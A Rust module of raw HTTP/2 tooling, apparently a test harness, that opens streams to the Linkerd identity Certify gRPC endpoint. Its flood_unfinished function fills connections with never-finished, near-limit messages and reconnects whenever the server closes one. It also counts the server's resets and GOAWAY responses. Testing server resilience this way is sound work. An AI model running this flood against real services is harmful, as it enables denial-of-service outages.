//! HTTP/2 frame by frame, for the attacks no well-behaved client library makes: a
//! connection past the settings exchange whose frames a task reads ([`RawH2`]: it
//! answers PINGs, counts the server's resets and GOAWAY, and follows the flow-control
//! windows the server grants), frame builders, a Certify header block, and
//! [`flood_unfinished`]: as many Certify messages as the windows allow, each announcing
//! a near-limit length and never finished.

use std::collections::{BTreeMap, HashSet};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::sync::Notify;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const DATA: u8 = 0x0;
pub const HEADERS: u8 = 0x1;
pub const RST_STREAM: u8 = 0x3;
pub const SETTINGS: u8 = 0x4;
pub const PING: u8 = 0x6;
pub const GOAWAY: u8 = 0x7;
pub const WINDOW_UPDATE: u8 = 0x8;
pub const END_STREAM: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;
pub const ACK: u8 = 0x1;
pub const SETTINGS_MAX_CONCURRENT_STREAMS: u16 = 0x3;
pub const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 0x4;
pub const REFUSED_STREAM: u32 = 0x7;
pub const CANCEL: u32 = 0x8;
pub const ENHANCE_YOUR_CALM: u32 = 0xb;
/// Every connection's send window before the server widens it (RFC 9113 §6.9.2).
const DEFAULT_WINDOW: i64 = 65_535;

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A Certify request's header block: HPACK literals without indexing, no Huffman.
pub fn certify_headers(authority: &str, extra: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    let fields = [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", "/io.linkerd.proxy.identity.Identity/Certify"),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    for (name, value) in fields.iter().chain(extra) {
        block.push(0x00);
        block.push(name.len() as u8);
        block.extend(name.as_bytes());
        block.push(value.len() as u8);
        block.extend(value.as_bytes());
    }
    block
}

/// What the server sent on a raw HTTP/2 connection, until it closed it.
#[derive(Debug, Default)]
pub struct Seen {
    pub max_concurrent_streams: Option<u32>,
    pub resets: BTreeMap<u32, usize>,
    pub goaway: Option<(u32, u32)>,
    /// Streams the server answered with END_STREAM (a gRPC status in trailers).
    pub answered: usize,
    pub closed: bool,
}

async fn read_frame<R: AsyncRead + Unpin>(r: &mut R) -> Option<(u8, u8, u32, Vec<u8>)> {
    let mut head = [0u8; 9];
    r.read_exact(&mut head).await.ok()?;
    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
    let mut payload = vec![0; len];
    r.read_exact(&mut payload).await.ok()?;
    Some((head[3], head[4], stream, payload))
}

type Writer = Arc<tokio::sync::Mutex<Box<dyn AsyncWrite + Send + Unpin>>>;

/// Flow control and stream state the reader keeps for the writer.
#[derive(Debug, Default)]
struct Shared {
    /// The connection's send window, and the server's initial stream window.
    window: i64,
    stream_window: i64,
    /// Streams opened and not yet closed by the server, and how many may be.
    open: HashSet<u32>,
    max_streams: usize,
    closed: bool,
}

/// An HTTP/2 connection past the settings exchange, its frames read by a task (so
/// the server is never blocked writing to us) until the server closes it.
pub struct RawH2 {
    writer: Writer,
    shared: Arc<Mutex<Shared>>,
    changed: Arc<Notify>,
    reader: tokio::task::JoinHandle<Seen>,
    next_stream: u32,
}

impl RawH2 {
    /// The client preface and an empty SETTINGS on `stream` (TLS with ALPN h2, or
    /// plain TCP), then the server's SETTINGS, acknowledged.
    pub async fn handshake<S>(mut stream: S) -> RawH2
    where
        S: AsyncRead + AsyncWrite + Send + Unpin + 'static,
    {
        stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await.unwrap();
        let mut seen = Seen::default();
        let mut stream_window = DEFAULT_WINDOW;
        loop {
            let (kind, flags, _, payload) = read_frame(&mut stream).await.expect("the server's SETTINGS");
            if kind == SETTINGS && flags & ACK == 0 {
                for setting in payload.chunks(6) {
                    let value = u32::from_be_bytes([setting[2], setting[3], setting[4], setting[5]]);
                    match u16::from_be_bytes([setting[0], setting[1]]) {
                        SETTINGS_MAX_CONCURRENT_STREAMS => seen.max_concurrent_streams = Some(value),
                        SETTINGS_INITIAL_WINDOW_SIZE => stream_window = i64::from(value),
                        _ => {}
                    }
                }
                break;
            }
        }
        stream.write_all(&frame(SETTINGS, ACK, 0, &[])).await.unwrap();
        let (mut read, write) = tokio::io::split(stream);
        let writer: Writer = Arc::new(tokio::sync::Mutex::new(Box::new(write)));
        // Without the setting, RFC 9113's advice of at least 100.
        let max_streams = seen.max_concurrent_streams.map_or(100, |n| n as usize);
        let shared = Arc::new(Mutex::new(Shared {
            window: DEFAULT_WINDOW,
            stream_window,
            max_streams,
            ..Shared::default()
        }));
        let changed = Arc::new(Notify::new());
        let (pong, state, notify) = (writer.clone(), shared.clone(), changed.clone());
        let reader = tokio::spawn(async move {
            while let Some((kind, flags, stream, payload)) = read_frame(&mut read).await {
                match kind {
                    PING if flags & ACK == 0 => {
                        let _ = pong.lock().await.write_all(&frame(PING, ACK, 0, &payload)).await;
                    }
                    RST_STREAM => {
                        let code = u32::from_be_bytes(payload[..4].try_into().unwrap());
                        *seen.resets.entry(code).or_default() += 1;
                        state.lock().unwrap().open.remove(&stream);
                    }
                    HEADERS | DATA if flags & END_STREAM != 0 => {
                        seen.answered += 1;
                        state.lock().unwrap().open.remove(&stream);
                    }
                    WINDOW_UPDATE if stream == 0 => {
                        let increment = u32::from_be_bytes(payload[..4].try_into().unwrap()) & 0x7fff_ffff;
                        state.lock().unwrap().window += i64::from(increment);
                    }
                    GOAWAY => {
                        let last = u32::from_be_bytes(payload[..4].try_into().unwrap()) & 0x7fff_ffff;
                        let code = u32::from_be_bytes(payload[4..8].try_into().unwrap());
                        seen.goaway = Some((last, code));
                    }
                    _ => continue,
                }
                notify.notify_waiters();
            }
            seen.closed = true;
            state.lock().unwrap().closed = true;
            notify.notify_waiters();
            seen
        });
        RawH2 { writer, shared, changed, reader, next_stream: 1 }
    }

    /// Writes frames in batches; stops quietly once the server has closed the connection.
    pub async fn send(&mut self, frames: impl Iterator<Item = Vec<u8>>) -> usize {
        let mut sent = 0;
        let mut batch = Vec::new();
        for f in frames {
            batch.extend(f);
            sent += 1;
            if batch.len() > 16 * 1024 {
                if self.writer.lock().await.write_all(&batch).await.is_err() {
                    return sent;
                }
                batch.clear();
            }
        }
        let mut writer = self.writer.lock().await;
        let _ = writer.write_all(&batch).await;
        let _ = writer.flush().await;
        sent
    }

    /// Opens a Certify stream carrying `body` as its first DATA frame, not ended,
    /// once the stream limit and the connection's window allow it (`None` when the
    /// server has closed the connection, or nothing allows it for `patience`).
    pub async fn open_unfinished(&mut self, headers: &[u8], body: &[u8], patience: Duration) -> Option<u32> {
        let need = body.len() as i64;
        let deadline = tokio::time::Instant::now() + patience;
        loop {
            let notified = self.changed.notified();
            {
                let mut state = self.shared.lock().unwrap();
                if state.closed {
                    return None;
                }
                if state.window >= need && state.stream_window >= need && state.open.len() < state.max_streams
                {
                    state.window -= need;
                    state.open.insert(self.next_stream);
                    break;
                }
            }
            if tokio::time::timeout_at(deadline, notified).await.is_err() {
                return None;
            }
        }
        let id = self.next_stream;
        self.next_stream += 2;
        let frames = [frame(HEADERS, END_HEADERS, id, headers), frame(DATA, 0, id, body)].concat();
        let mut writer = self.writer.lock().await;
        (writer.write_all(&frames).await.is_ok() && writer.flush().await.is_ok()).then_some(id)
    }

    /// What the server sent, once it has closed the connection (at most `bound` from now).
    pub async fn outcome(self, bound: Duration) -> Seen {
        tokio::time::timeout(bound, self.reader)
            .await
            .expect("the server did not close the connection")
            .unwrap()
    }

    /// What the server sent so far; closes our side first.
    pub async fn abandon(self) -> Seen {
        let _ = self.writer.lock().await.shutdown().await;
        self.reader.abort();
        self.reader.await.unwrap_or_default()
    }
}

/// A gRPC message prefix (uncompressed) announcing `len` bytes, then `sent` of them.
pub fn unfinished_message(len: u32, sent: usize) -> Vec<u8> {
    let mut body = vec![0u8];
    body.extend(len.to_be_bytes());
    body.resize(5 + sent, b'a');
    body
}

/// What a flood did: streams opened, and those the server answered or reset.
#[derive(Debug, Default, Clone, Copy)]
pub struct Flooded {
    pub connections: usize,
    pub streams: usize,
}

/// Until `until`, keeps `connect()`'s connection full of unfinished Certify messages
/// (each announcing `announce` bytes and sending `chunk` of them), as many as the
/// server's stream limit and flow-control windows admit; reconnects when the server
/// closes it.
pub async fn flood_unfinished<F, Fut>(
    connect: F,
    authority: &str,
    announce: u32,
    chunk: usize,
    until: tokio::time::Instant,
) -> Flooded
where
    F: Fn() -> Fut,
    Fut: std::future::Future<Output = RawH2>,
{
    let headers = certify_headers(authority, &[]);
    let body = unfinished_message(announce, chunk);
    let mut done = Flooded::default();
    while tokio::time::Instant::now() < until {
        let mut h2 = connect().await;
        done.connections += 1;
        while tokio::time::Instant::now() < until {
            match h2.open_unfinished(&headers, &body, Duration::from_millis(500)).await {
                Some(_) => done.streams += 1,
                None if h2.shared.lock().unwrap().closed => break,
                None => {}
            }
        }
        h2.abandon().await;
    }
    done
}
